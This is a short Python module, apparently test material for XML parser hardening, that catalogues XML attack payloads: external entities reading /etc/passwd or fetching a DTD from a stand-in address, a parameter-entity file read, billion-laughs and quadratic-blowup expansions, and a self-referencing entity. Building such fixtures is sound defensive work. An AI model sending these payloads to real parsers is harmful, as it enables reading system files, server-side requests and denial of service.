"""Attacks through XML: entities that read files, connect to the network, or grow without end."""

from __future__ import annotations

from dataclasses import dataclass

FILE = "file:///etc/passwd"
ELSEWHERE = "http://192.0.2.1/tide.dtd"


@dataclass(frozen=True, slots=True)
class Attack:
    declared: str
    """Inside the DOCTYPE's brackets."""
    used: str
    """At a place for text."""
    system: str = ""
    """The system identifier of the DOCTYPE itself."""

    def doctype(self, root: str) -> str:
        return f"<!DOCTYPE {root} {self.system}[{self.declared}]>\n"

    def calling(self, home: str) -> Attack:
        """Return the attack with this address in place of every other."""
        declared, system = (
            part.replace(FILE, home).replace(ELSEWHERE, home) for part in (self.declared, self.system)
        )
        return Attack(declared, self.used, system)


def _laughs() -> str:
    grown = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return '<!ENTITY l0 "ha ha ha ">' + grown


ATTACKS = {
    "xxe_file": Attack(f'<!ENTITY x SYSTEM "{FILE}">', "&x;"),
    "xxe_http": Attack(f'<!ENTITY x SYSTEM "{ELSEWHERE}">', "&x;"),
    "billion_laughs": Attack(_laughs(), "&l9;"),
    "quadratic_blowup": Attack(f'<!ENTITY q "{"ha " * 20_000}">', "&q;" * 20_000),
    "parameter_entities": Attack(
        f"<!ENTITY % f SYSTEM '{FILE}'><!ENTITY % e \"<!ENTITY x '%f;'>\"> %e;", "&x;"
    ),
    "external_dtd": Attack("", "&tide;", f'SYSTEM "{ELSEWHERE}" '),
    "endless_entity": Attack('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
}
